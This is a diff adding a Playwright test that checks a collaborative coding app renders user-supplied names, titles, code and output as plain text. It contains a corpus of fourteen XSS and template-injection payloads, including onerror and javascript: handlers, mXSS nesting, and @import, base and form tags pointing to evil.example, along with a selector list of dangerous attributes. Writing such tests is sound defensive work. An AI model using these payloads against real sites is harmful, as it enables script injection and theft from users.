@@ -1,5 +1,8 @@
 """Names, titles, code, output and errors that try to be markup."""
 
+import json
+
+import pytest
 from playwright.async_api import expect
 
 from tests.ui.conftest import NewBrowser
@@ -40,3 +43,65 @@ async def test_markup_is_drawn_as_text(
 async def unharmed(panel: Panel) -> None:
     assert await panel.page.locator("img[src=x]").count() == 0
     assert "bitten" != await panel.page.title()
+
+
+CORPUS = [
+    "<script>bite()</script>",
+    "<img src=x onerror=bite()>",
+    "<svg/onload=bite()>",
+    '"><iframe srcdoc="<script>parent.bite()</script>">',
+    "<a href='javascript:bite()'>x</a>",
+    "</textarea></title><script>bite()</script>",
+    "<math><mtext><mglyph><style><img src onerror=bite()>",
+    "{{constructor.constructor('bite()')()}}",
+    "${bite()} #{bite()} <%= bite() %>",
+    "[x](javascript:bite()) ![x](x onerror=bite())",
+    "&lt;img src=x onerror=bite()&gt;",
+    "<style>@import'//evil.example/x'</style>",
+    "<base href=//evil.example/><form action=//evil.example>",
+    "<b onmouseover=bite() style=position:fixed>",
+]
+"""Each fits into a name, the shortest of all fields."""
+FOREIGN = "[onerror], [onload], [onmouseover], iframe[srcdoc], [href^=javascript], math, base, form"
+
+
+async def test_no_payload_of_the_corpus_does_anything_in_any_field(
+    server: LabServer, lab: LabPanel, another_browser: NewBrowser
+) -> None:
+    """PA3: name, title, code, stdout, stderr and error, in Lab and as a guest, each as it is."""
+    everything = "\n".join(CORPUS)
+    session_id = server.new_session(code="", language="javascript")["id"]
+    await lab.open(session_id)
+    guest = await join(await another_browser(), server.invite(session_id)["url"], "Eve")
+    panels = (lab, guest)
+    before = []
+    for panel in panels:
+        panel.page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
+        await panel.page.evaluate("() => { window.bite = () => { window.bitten = true; }; }")
+        before.append(await panel.page.locator(FOREIGN).count())
+    link = server.invite(session_id)
+    for payload in CORPUS:
+        body = {"userName": payload, "invite": link["secret"]}
+        server.rest.post(f"sessions/{session_id}/join", json=body).raise_for_status()
+        server.rest.patch(f"sessions/{session_id}", json={"title": payload}).raise_for_status()
+        await expect(lab.title).to_have_value(payload)
+        await expect(guest.page.get_by_role("heading", name=payload, exact=True)).to_be_visible()
+    server.put_code(session_id, everything)
+    reported = {"output": everything, "error": everything}
+    server.rest.post(f"sessions/{session_id}/execute", json=reported).raise_for_status()
+    for panel, foreign in zip(panels, before, strict=True):
+        await panel.shows(everything)
+        for payload in CORPUS:
+            await expect(panel.people).to_contain_text(payload)
+            await expect(panel.runs.first).to_contain_text(payload)
+        assert await panel.page.evaluate("window.bitten") is None
+        assert await panel.page.locator(FOREIGN).count() == foreign
+    words = f"console.log({json.dumps(everything)}); console.error({json.dumps(everything)});"
+    server.put_code(session_id, words)
+    await guest.shows(words)
+    await guest.run_and_wait("Finished")
+    for panel, foreign in zip(panels, before, strict=True):
+        for payload in CORPUS:
+            await expect(panel.runs.nth(1)).to_contain_text(payload)
+        assert await panel.page.evaluate("window.bitten") is None
+        assert await panel.page.locator(FOREIGN).count() == foreign
